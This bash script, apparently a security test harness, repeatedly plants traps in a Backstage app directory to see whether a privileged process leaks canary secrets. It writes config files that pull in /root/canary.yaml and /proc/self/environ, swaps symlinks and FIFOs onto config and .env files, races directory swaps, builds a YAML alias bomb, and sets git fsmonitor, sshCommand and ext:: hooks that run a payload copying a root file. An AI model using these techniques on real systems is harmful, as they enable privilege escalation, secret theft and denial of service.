#!/usr/bin/env bash
# Runs as the app's user until it is killed: lays one trap after the other into the app's directory, and swaps that.
# attack.sh loud: every trap; attack.sh silent: those that no run has to fail because of.
app=/home/portal/backstage
cd /home/portal || exit 1

connection() { # user password: an app-config that leads to the peer
  printf 'backend:\n  database:\n    client: pg\n    connection:\n      host: 127.0.0.1\n      port: 6666\n'
  printf '      user: %s\n      password: %s\n' "$1" "$2"
}

repository() { # what git would run or fetch
  rm -rf "$app/.git" /tmp/repository
  git init -q /tmp/repository
  printf '#!/bin/sh\nid -u >> /tmp/git-ran-as\ncp /root/canary.yaml /tmp/stolen\n' > /tmp/payload
  chmod 755 /tmp/payload
  git -C /tmp/repository config core.fsmonitor /tmp/payload
  git -C /tmp/repository config core.sshCommand /tmp/payload
  git -C /tmp/repository config extensions.partialClone origin
  git -C /tmp/repository config remote.origin.url 'ext::sh /tmp/payload'
  git -C /tmp/repository config protocol.ext.allow always
}

bomb() {
  echo 'a0: &a0 [x, x, x, x, x, x, x, x, x, x]'
  for i in 1 2 3 4 5 6 7 8 9; do
    printf 'a%s: &a%s [' "$i" "$i"
    for _ in 0 1 2 3 4 5 6 7 8 9; do printf '*a%s, ' $((i - 1)); done
    echo ']'
  done
}

plain() {
  rm -rf "$app/app-config.local.yaml" "$app/.git" "$app/postgres-password"
  [ -L "$app/.env" ] || [ -p "$app/.env" ] && rm -f "$app/.env"
}

local_file() {
  rm -f "$app/.new"
  cat > "$app/.new"
  mv -f "$app/.new" "$app/app-config.local.yaml"
}

loud=(
  "connection '{\$file: /root/canary.yaml}' '{\$file: /etc/canary.yaml}' | local_file"
  "connection '{\$include: /root/canary.yaml#user}' '{\$include: /home/alice/canary.yaml#password}' | local_file"
  "connection '\${AWS_SECRET_ACCESS_KEY}' '\${POSTGRES_PASSWORD}' | local_file; ln -sfn /root/app/.env $app/.env"
  "ln -sfn /root/canary.yaml $app/app-config.local.yaml"
  "ln -sfn /root/app/app-config.yaml $app/app-config.local.yaml; ln -sfn /root/app/.env $app/.env"
  "rm -f $app/app-config.local.yaml; mkfifo $app/app-config.local.yaml"
  "rm -f $app/.env; mkfifo $app/.env"
  "connection '{\$file: /dev/zero}' '{\$file: /proc/self/environ}' | local_file"
  "bomb | local_file"
)
silent=(
  "repository; ln -sfn /tmp/repository/.git $app/.git"
  "repository; ln -sfn /tmp $app/.git; cp -r /tmp/repository/.git/* /tmp/"
  "repository; echo 'gitdir: /tmp/repository/.git' > $app/.git"
  "ln -sfn /root/canary.yaml $app/postgres-password; ln -sfn /etc/canary.yaml $app/app-config.yaml.tmp"
)
swap() {
  mv backstage real && ln -s "$1" backstage
  sleep 0.05
  rm backstage
  mv real backstage
}

case $1 in
  loud) traps=("${loud[@]}" "${silent[@]}") ;;
  silent) traps=("${silent[@]}") ;;
esac
while :; do
  for trap in "${traps[@]}"; do
    plain
    eval "$trap"
    sleep 0.4
    if [ "$1" = loud ]; then
      swap /root/app
      swap /etc
    fi
    sleep 0.4
  done
done 2> /dev/null
